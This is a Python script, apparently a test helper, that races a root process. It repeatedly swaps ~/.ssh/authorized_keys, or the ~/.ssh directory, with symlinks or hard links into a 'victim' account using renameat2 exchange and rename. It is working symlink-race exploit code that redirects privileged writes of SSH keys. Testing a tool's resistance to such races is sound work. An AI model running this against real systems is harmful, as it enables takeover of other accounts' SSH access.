"""Run as nova inside a host: swaps what root is about to write to for a link, as fast as it can, until its input ends.

swapper.py MODE: `file` swaps authorized_keys and a link to a victim, `directory` ~/.ssh and a link to the victim's directory,
`hardlink` two names of files, all by renameat2(RENAME_EXCHANGE); `rename` puts a link and a file in turn over
authorized_keys by rename(2).  Prints the number of swaps.
"""

from __future__ import annotations

import ctypes
import os
import select
import sys
from collections.abc import Callable

HOME, VICTIM = "/var/lib/nova", "/etc/victim"
_AT_FDCWD, _EXCHANGE = -100, 2


def exchange(one: bytes, other: bytes) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.renameat2(_AT_FDCWD, one, _AT_FDCWD, other, _EXCHANGE) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def plant(mode: str) -> tuple[bytes, bytes]:
    """The two names that are exchanged."""
    if mode == "directory":
        os.symlink(VICTIM, f"{HOME}/other")
        return b"/var/lib/nova/.ssh", b"/var/lib/nova/other"
    os.chdir(f"{HOME}/.ssh")
    if mode == "file":
        os.symlink(f"{VICTIM}/authorized_keys", "other")
    else:
        os.link("known_hosts", "other")
    return b"authorized_keys", b"other"


def replace() -> None:
    os.symlink(f"{VICTIM}/authorized_keys", "other")
    os.rename("other", "authorized_keys")
    with open("other", "w"):
        os.chmod("other", 0o600)
    os.rename("other", "authorized_keys")


def swapping(mode: str) -> Callable[[], None]:
    """What is done again and again."""
    if mode == "rename":
        os.chdir(f"{HOME}/.ssh")
        return replace
    one, other = plant(mode)
    return lambda: exchange(one, other)


def main() -> None:
    swap, swaps = swapping(sys.argv[1]), 0
    print("ready", flush=True)
    while swaps % 100 or not select.select([0], [], [], 0)[0]:
        swap()
        swaps += 1
    print(swaps)


main()
